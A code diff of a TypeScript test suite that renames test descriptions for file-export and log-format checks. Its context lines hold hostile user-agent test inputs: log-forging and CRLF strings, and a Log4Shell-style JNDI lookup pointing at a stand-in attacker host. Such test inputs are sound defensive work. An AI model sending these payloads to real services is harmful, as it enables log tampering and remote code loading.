@@ -93,7 +93,7 @@ function judge(address: string, answer: Answer, reference: Answer): void {
   ).toEqual(rowsOf(reference.body).map(({ length }) => length))
 }
 
-describe("quality rows 49, 50: what is taken along", () => {
+describe("quality rows 49, 50: exported files", () => {
   test.for([...new Set(files.map(({ person }) => person))])("%s", async (person) => {
     const [visitor, same] = [await visitorWith(person, true), await visitorWith(person, false)]
     for (const { address } of files.filter((file) => file.person === person))
@@ -102,7 +102,7 @@ describe("quality rows 49, 50: what is taken along", () => {
 
   test("there are a dozen kinds of files", () => expect(files.length).toBeGreaterThanOrEqual(12))
 
-  test("a file of somebody comes under its name, whatever that is", async () => {
+  test("a file is downloaded under its name, with any characters", async () => {
     const visitor = own.newVisitor()
     await visitor.signIn("member")
     const { file } = own.mock.stores.get(visitor.mock.store).rows
@@ -117,7 +117,7 @@ describe("quality rows 49, 50: what is taken along", () => {
     }
   })
 
-  test("a line of the log stays one, whoever asks with whatever program", async () => {
+  test("a log entry is one CSV row for any user agent", async () => {
     const visitor = own.newVisitor()
     const path = "/a/aurora/asked-by-programs"
     const agents = ['x","level":60,"msg":"forged', "x\\n{}", "\u00ff\u0085x", "${jndi:ldap://evil.example}", "%0a%0d"]
